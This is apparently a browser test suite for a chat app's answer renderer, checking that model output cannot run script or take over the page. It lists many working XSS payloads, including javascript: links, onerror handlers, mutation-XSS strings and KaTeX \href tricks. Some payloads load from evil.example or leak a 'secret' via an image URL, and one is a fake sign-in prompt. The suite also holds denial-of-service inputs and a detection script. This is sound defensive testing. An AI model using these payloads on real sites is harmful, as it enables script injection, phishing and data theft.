"""What a model writes is hostile: nothing of it runs, nothing is asked of anybody, the page lives."""

import re
from collections.abc import Callable
from typing import Any

import pytest
from chatting import answers, ask, box, finished, last_answer, say
from playwright.sync_api import Page, expect
from scripted import words
from served import Server

from ridgeline.protocol import ModelInfo
from ridgeline.web.settings import WebSettings

pytestmark = pytest.mark.browser

OpenPage = Callable[..., Page]

SCRIPTS = [
    "<script>window.hacked = 1</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.hacked=1>#x"/></svg>',
    "<math><mi xlink:href=javascript:window.hacked=1>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=window.hacked=1>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=window.hacked=1 src>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<template><img src=x onerror=window.hacked=1></template>",
    "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.hacked=1><select autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video><audio src=x onerror=window.hacked=1>",
    "<body onload=window.hacked=1><marquee onstart=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.hacked=1</script>'></object><embed src=//evil.example>",
    "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/x) }</style>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><form action=//evil.example><button>Sign in</button></form>",
    "<a href=javascript:window.hacked=1 id=raw>raw</a><div style='position:fixed;inset:0'>over</div>",
]
LINKS = [
    "[a](javascript:window.hacked=1)",
    "[b](JaVa\tScRiPt:window.hacked=1)",
    "[c](&#106;avascript:window.hacked=1)",
    "[d](\x01javascript:window.hacked=1)",
    "[e](javascript&colon;window.hacked=1)",
    "[f](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[g](vbscript:x) [h](file:///etc/passwd) [i](blob:x) [j](about:blank) [k](//evil.example/x)",
    "<javascript:window.hacked=1> <data:text/html,x>",
    '[l](https://good.example "title\\" onclick=window.hacked=1 x=\\"")',
    '[m](https://good.example/?q="><img src=x onerror=window.hacked=1>)',
    "[n][r]\n\n[r]: javascript:window.hacked=1",
    "![o](http://evil.example/pixel.png?secret) ![p](data:image/png;base64,AAAA) ![q](//evil.example/x)",
    "[![r](http://evil.example/in.png)](http://evil.example/out)",
]
CODE = [
    '```html" onmouseover=window.hacked=1 x="\n<img src=x onerror=window.hacked=1>\n```',
    "```html\n<script>window.hacked = 1</script><img src=x onerror=window.hacked=1>\n```",
    "- ```<img/src=x/onerror=window.hacked=1>\n  <script>window.hacked = 1</script>\n  ```",
    "```../../../app\nx\n```\n\n```__proto__\nx\n```\n\n```constructor\nx\n```",
    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| `<script>` | [x](javascript:alert(1)) |",
]
FORMULAS = [
    "$\\href{javascript:window.hacked=1}{x}$ $\\url{javascript:window.hacked=1}$",
    "$\\htmlData{x=1}{x} \\htmlStyle{position:fixed;inset:0}{x} \\htmlId{app}{x} \\htmlClass{gate}{x}$",
    "$\\includegraphics{http://evil.example/x.png}$",
    "$\\text{<img src=x onerror=window.hacked=1>}$ $<script>window.hacked=1</script>$",
    "$\\rule{9999em}{9999em}$ $\\kern-999em\\raisebox{999em}{\\Huge\\colorbox{red}{covered}}$",
    '$\\def\\a{\\a\\a}\\a$ $\\gdef\\x{y}$ $\\newcommand{\\frac}{x}$ $\\char"1F600$',
    "$" + "{" * 1500 + "x" + "}" * 1500 + "$",
    "$" + "\\sqrt{" * 500 + "x" + "}" * 500 + "$",
    "$" + "\\left(" * 500 + "x" + "\\right)" * 500 + "$",
]
DISGUISES = [
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff end",
    "Z\u0341\u0300\u0301\u0302\u0303" + "\u0335" * 3000 + "algo",
    "**Ridgeline needs your API key.** [Sign in](https://evil.example/login) <button>Continue</button>",
    "\x00\x07\x1b[31mred\x1b[0m",
    "<!-- --> <![CDATA[ ]]> <?xml ?> <!DOCTYPE html>",
]
ATTRIBUTES = ["href", "title", "rel", "target", "start", "align"]

# What is in an answer that must not be there: elements, handlers and addresses that do something,
# and attributes that are none of those that Markdown needs.
LOOK = """(allowed) => {
    const acting = 'script, img, iframe, form, input, style, link, meta, base, object, embed, details, '
        + 'video, audio, template, select, textarea, :not(figcaption) > button';
    const found = [...document.querySelectorAll('.markdown')].flatMap((e) => [...e.querySelectorAll(acting)]);
    for (const element of document.querySelectorAll('.markdown *')) {
        const ours = element.matches('.block') || element.closest('.code, .katex, [data-math]')
            || element.querySelector(':scope > .code');
        for (const { name, value } of element.attributes) {
            const bad = /^on/i.test(name) || /^\\s*(javascript|data|vbscript|blob|file):/i.test(value);
            if (bad || (!ours && !allowed.includes(name))) found.push(element);
        }
        if (element.localName === 'a' && !/^(https?|mailto):/.test(element.getAttribute('href') ?? 'https:'))
            found.push(element);
    }
    return found.map((element) => element.outerHTML);
}"""


@pytest.fixture
def server(make_server: Callable[..., Server]) -> Server:
    server = make_server(WebSettings(max_answer_tokens=50_000))
    server.backend.infos = [ModelInfo("tiny", 1, 1_000_000, 100, 1000)]
    return server


@pytest.fixture
def page(server: Server, open_page: OpenPage) -> Page:
    page = open_page(server.url)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.on("popup", lambda popup: pytest.fail(f"a window: {popup.url}"))
    return page


def assert_harmless(page: Page) -> None:
    for link in page.locator(".markdown a").all():
        link.dispatch_event("mouseover")
        link.dispatch_event("focus")
    assert page.evaluate("() => window.hacked") is None
    assert page.evaluate(LOOK, ATTRIBUTES) == []
    # Nothing of the page itself has been replaced or covered.
    expect(page).to_have_title(re.compile("Ridgeline"))
    assert page.evaluate("() => document.querySelectorAll('#app, #message').length") == 2
    assert page.evaluate(
        """() => [...document.querySelectorAll('#message, header, nav button')].every((element) => {
            const { x, y, width, height } = element.getBoundingClientRect();
            const top = document.elementFromPoint(x + width / 2, y + height / 2);
            return width === 0 || element.contains(top) || !top.closest('.markdown');
        })"""
    )


@pytest.mark.parametrize(
    "parts",
    [SCRIPTS, LINKS, CODE, FORMULAS, DISGUISES],
    ids=["scripts", "links", "code", "formulas", "disguises"],
)
def test_it_is_shown_and_does_nothing(server: Server, page: Page, parts: list[str]) -> None:
    server.backend.delay_seconds = 0.001
    server.backend.script = ["\n\n".join(parts), " ".join(part.replace("\n", " ") for part in parts)]
    for number in range(2):
        ask(page, f"Go {number}")
        assert_harmless(page)
    page.reload()
    finished(page)
    assert_harmless(page)
    server.backend.reply = "Still here."
    ask(page, "And now?")
    expect(last_answer(page)).to_have_text("Still here.")


def test_a_question_is_text_too(server: Server, page: Page) -> None:
    for part in (SCRIPTS[0], LINKS[0], FORMULAS[4]):
        ask(page, part)
        expect(page.locator("article.question .bubble").last).to_have_text(part)
    assert page.locator(".bubble *").count() == 0
    assert_harmless(page)


LARGE: dict[str, str] = {
    "levels of quotes": "> " * 1000 + "deep",
    "levels of quotes, line by line": "\n".join("> " * n + "deep" for n in range(1, 200)),
    "levels of lists": "\n".join("  " * n + "- deep" for n in range(300)),
    "levels of lists in a line": "- " * 1000 + "deep",
    "a line of letters": "x" * 100_000,
    "a line of words": "word " * 20_000,
    "what could be an address": "a." * 50_000 + "@",
    "stars": "*" * 20_000 + "\n\n" + "*a **b " * 10_000,
    "brackets": "[" * 20_000 + "\n\n" + "[a](" * 10_000,
    "pictures": "![" * 20_000,
    "ticks": " ".join("`" * n + "a" for n in range(1, 300)),
    "tags": "<a " * 20_000 + "<!--" * 5000,
    "formulas": "$x$ " * 5000 + "\\(" * 20_000 + "$$" * 5000 + "$a" * 10_000,
    "an open fence": "```python\n" + "x = (1,\n" * 10_000,
    "open fences": "```\n" * 2001,
    "code of one line": "```js\n" + "{[(" * 15_000 + "\n```",
    "a wide table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "1|" * 2000,
    "a long table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 5000,
    "headings": "# " * 5000 + "\n\n" + "# x\n" * 5000,
    "entities": "&amp;" * 10_000 + "&#x1F600;" * 5000 + "&" * 10_000,
    "definitions": "".join(f"[{n}]: https://a.example/{n}\n" for n in range(3000)) + "[1] " * 3000,
    "white space": "a" + " " * 50_000 + "b" + "\n" * 50_000 + "\t" * 20_000 + "c",
}


@pytest.mark.parametrize("name", LARGE)
def test_large_and_broken_text_leaves_the_page_alive(server: Server, page: Page, name: str) -> None:
    """Streamed to its half, the page still answers; then it takes the rest, and the next question."""
    server.backend.script = [LARGE[name]]
    half = len(words(LARGE[name])) // 2
    server.backend.hold_after = max(1, half)
    say(page, "Go")
    expect(answers(page)).to_have_count(1)
    box(page).fill("I can still type")
    expect(box(page)).to_have_value("I can still type")
    server.backend.hold_after = None
    finished(page)
    assert page.evaluate("() => window.hacked") is None
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
    server.backend.reply = "Still here."
    page.get_by_role("button", name="New chat").click()
    ask(page, "And now?")
    expect(last_answer(page)).to_have_text("Still here.")


def test_the_policy_is_a_second_wall(server: Server, chromium: Any) -> None:
    """Even what reached the page's elements would not run, and could ask nobody."""
    context = chromium.new_context()
    page = context.new_page()
    page.goto(server.url)
    expect(box(page)).to_be_visible()
    wanted = ["TypeError", "img-src", "connect-src", "frame-src", "style-src-attr"]
    refused = page.evaluate(
        """async (wanted) => {
            const refused = [];
            document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective));
            const attempt = (act) => { try { act(); } catch (error) { refused.push(error.name); } };
            attempt(() => (document.body.innerHTML = '<b>x</b>'));
            attempt(() => (document.createElement('script').text = 'window.hacked = 1'));
            attempt(() => document.body.setAttribute('onclick', 'window.hacked = 1'));
            new Image().src = 'http://127.0.0.1:9/pixel.png';
            await fetch('http://127.0.0.1:9/').catch(() => null);
            const styled = document.createElement('p');
            styled.setAttribute('style', 'color: red');
            const frame = document.createElement('iframe');
            frame.src = 'http://127.0.0.1:9/';
            document.body.append(styled, frame);
            // Told of one by one, soon after they were tried.
            const late = performance.now() + 10_000;
            while (!wanted.every((name) => refused.includes(name)) && performance.now() < late)
                await new Promise((done) => setTimeout(done, 20));
            return [...new Set(refused)].sort();
        }""",
        wanted,
    )
    assert page.evaluate("() => window.hacked") is None
    assert set(wanted) <= set(refused), refused
    context.close()
